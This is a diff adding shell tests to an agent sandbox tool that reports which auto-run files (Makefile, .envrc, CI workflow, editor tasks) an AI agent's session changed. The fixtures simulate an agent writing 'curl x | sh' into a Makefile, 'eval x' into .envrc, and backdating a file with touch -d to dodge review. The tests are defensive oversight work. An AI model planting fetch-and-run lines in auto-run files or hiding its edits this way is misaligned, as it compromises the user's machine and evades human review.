@@ -386,6 +386,64 @@ session_mount() {
 	assert_output $'a1\no2'
 }
 
+# The review list of the owner (meson's localstatedir: /var for /usr).
+review_state() {
+	case "$AS_PREFIX" in
+	/usr | /usr/) echo "/var/lib/agent-shell/review/$OWNER" ;;
+	*) echo "$AS_PREFIX/var/lib/agent-shell/review/$OWNER" ;;
+	esac
+}
+
+@test "the end of a session lists the auto-run files the agent changed; --review shows them again" {
+	make_repos
+	local r="$(proj)/repo"
+	runuser -u "$OWNER" -- sh -c "printf 'all:\n\ttrue\n' > $r/Makefile && chmod 664 $r/Makefile && echo notes > $r/notes.txt"
+	agent_sh "$r" 'printf "all:\n\tcurl x | sh\n" > Makefile && echo "eval x" > .envrc &&
+		mkdir -p .github/workflows .vscode sub2 && echo "on: push" > .github/workflows/ci.yml &&
+		echo "{}" > .vscode/tasks.json && echo "{}" > sub2/package.json && echo x >> notes.txt && echo done'
+	assert_success
+	assert_line --partial "the agent's session changed files your tools run without asking"
+	assert_line "  $r/Makefile"
+	assert_line "  $r/.envrc"
+	assert_line "  $r/.github/workflows/ci.yml"
+	assert_line "  $r/.vscode/tasks.json"
+	assert_line "  $r/sub2/package.json"
+	refute_line --partial notes.txt
+	as_owner "$OWNER" "$(proj)" "$SH" --review
+	assert_success
+	assert_line "files your tools run without asking that the agent's last session changed:"
+	assert_line "  $r/Makefile"
+	assert_line "  $r/.github/workflows/ci.yml"
+	refute_line --partial notes.txt
+	local state
+	state=$(review_state)
+	[ "$(stat -c '%u %a' "$state")" = "0 640" ]
+}
+
+@test "a file the agent backdates (touch -d) is still listed; a session that changes none lists nothing" {
+	runuser -u "$OWNER" -- sh -c "echo x > $(proj)/.envrc && chmod 664 $(proj)/.envrc"
+	agent_sh "$(proj)" 'echo "evil" >> .envrc && touch -d 2001-01-01 .envrc && echo done'
+	assert_line "  $(proj)/.envrc"
+	agent_sh "$(proj)" 'echo x > plain.txt && echo done'
+	assert_output done
+	as_owner "$OWNER" "$(proj)" "$SH" --review
+	assert_output "the agent's last session changed none of the files your tools run without asking"
+}
+
+@test "--review refuses a list that root did not write" {
+	local state
+	state=$(review_state)
+	agent_sh "$(proj)" 'true'
+	chown "$OWNER" "$state"
+	as_owner "$OWNER" "$(proj)" "$SH" --review
+	assert_failure 1
+	assert_output --partial "not written by root"
+	rm -f "$state"
+	as_owner "$OWNER" "$(proj)" "$SH" --review
+	assert_success
+	assert_output "no agent session of yours has ended on this host yet"
+}
+
 @test "bad input: a .git link out of the grant is read-only; the session still starts" {
 	install -d -o "$OWNER" -g "$OWNER" "$(proj)/linked" "/home/$OWNER/outside.git/hooks"
 	echo "gitdir: /home/$OWNER/outside.git" >"$(proj)/linked/.git"
